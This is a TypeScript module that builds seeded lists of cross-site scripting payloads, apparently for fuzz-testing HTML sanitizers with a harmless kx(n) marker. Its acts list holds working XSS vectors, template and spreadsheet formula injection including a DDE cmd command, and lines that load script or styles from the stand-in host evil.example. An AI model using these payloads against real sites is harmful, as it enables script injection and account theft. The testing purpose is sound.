/**
 * Words that run as script wherever they are taken for markup: each is a way out of the place it may
 * stand in, something that acts, and a disguise. The same seed gives the same words in the same order.
 */

/** Ways out of where text may stand: content, attributes, other elements, script, style, comments. */
const exits = [
  '',
  '">',
  "'>",
  '`>',
  '"',
  "' ",
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '</text>',
  '</noscript>',
  '-->',
  ']]>',
  '\\"',
  '\u2028',
  ')',
  '&quot;>',
] as const;

/** What acts; `¤` stands for the script. */
const acts = [
  '<script>¤</script>',
  '<script src=//evil.example/¤></script>',
  '<script type=module>¤</script>',
  '<img src=x onerror=¤>',
  '<img srcset=x onerror="¤">',
  '<image src=x onerror=¤>',
  '<svg onload=¤>',
  '<svg/onload=¤//',
  '<svg><script>¤</script></svg>',
  '<svg><animate onbegin=¤ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:¤"><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=¤></foreignObject></svg>',
  '<math><mtext><img src=x onerror=¤></mtext></math>',
  '<math href="javascript:¤">x</math>',
  '<iframe srcdoc="<script>¤</script>"></iframe>',
  '<iframe src="javascript:¤"></iframe>',
  '<object data="javascript:¤"></object>',
  '<embed src="javascript:¤">',
  '<a href="javascript:¤">x</a>',
  '<a href="java&Tab;script:¤">x</a>',
  '<a href="data:text/html,<script>¤</script>">x</a>',
  '<form action="javascript:¤"><button autofocus>x</button></form>',
  '<button formaction="javascript:¤">x</button>',
  '<details open ontoggle=¤>',
  '<input autofocus onfocus=¤>',
  '<select autofocus onfocus=¤></select>',
  '<body onload=¤>',
  '<body onpageshow=¤>',
  '<video><source onerror=¤></video>',
  '<audio src=x onerror=¤>',
  '<marquee onstart=¤>x</marquee>',
  '<div style="animation:x 1s" onanimationstart=¤>',
  '<div onpointerover=¤ style="position:fixed;inset:0">',
  '<template><script>¤</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=¤>">',
  '<style><img src="</style><img src=x onerror=¤>">',
  '<style>@import"//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:¤">',
  '<!--><img src=x onerror=¤>-->',
  '<![CDATA[>]]><img src=x onerror=¤>',
  '<?xml-stylesheet href="javascript:¤"?>',
  '<!DOCTYPE x [<!ENTITY y "<script>¤</script>">]>&y;',
  ' onmouseover=¤ x="',
  ' autofocus onfocus=¤ tabindex=1 ',
  'javascript:¤',
  'vbscript:¤',
  '[x](javascript:¤)',
  '[x](data:text/html,<script>¤</script>)',
  '![x](javascript:¤)',
  '<javascript:¤>',
  '[x]: javascript:¤',
  '```<img src=x onerror=¤>',
  "';¤;//",
  '";¤;//',
  '{{constructor.constructor("¤")()}}',
  '$'.concat('{¤}'),
  '=HYPERLINK("javascript:¤")',
  "=cmd|' /C ¤'!A0",
  '@SUM(1+1)*¤',
  '+1-¤',
] as const;

const entities = (text: string): string =>
  text.replace(/[<>"']/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`);

/** Disguises that one decoding too many takes off. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/<([a-z])([a-z]*)/gi, (_, first, rest) => `<${first.toUpperCase()}${rest}`),
  (text) => text.replace(/<([a-z]+) /gi, '<$1\n/'),
  (text) => text.replaceAll('javascript:', 'jAvA\tscRipt:'),
  entities,
  (text) => entities(entities(text)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
];

/** Steps of a generator by Lehmer: whole numbers below `below`, the same for the same seed. */
function createDice(seed: number): (below: number) => number {
  let state = (seed % 2_147_483_646) + 1;
  return (below) => {
    state = (state * 48_271) % 2_147_483_647;
    return state % below;
  };
}

/**
 * So many different payloads: first every act as it is, then exits and disguises at random. Each names
 * itself by its number in what it would run, `kx(7)`.
 */
export function drawPayloads(count: number, seed = 1): readonly string[] {
  const roll = createDice(seed);
  const one = <T>(list: readonly T[]): T => list[roll(list.length)] as T;
  const seen = new Set<string>();
  const payloads: string[] = [];
  while (payloads.length < count) {
    const number = payloads.length;
    const act = number < acts.length ? acts[number] : one(acts);
    const shape = number < acts.length ? `${act}` : one(disguises)(`${one(exits)}${act}`);
    if (seen.has(shape)) continue;
    seen.add(shape);
    payloads.push(shape.replaceAll('¤', `kx(${number})`));
  }
  return payloads;
}

/** The same payloads in an order of the seed, so that a part of them is a sample of all. */
export function shuffle<T>(list: readonly T[], seed: number): readonly T[] {
  const roll = createDice(seed);
  const mixed = [...list];
  for (let at = mixed.length - 1; at > 0; at--) {
    const other = roll(at + 1);
    [mixed[at], mixed[other]] = [mixed[other] as T, mixed[at] as T];
  }
  return mixed;
}
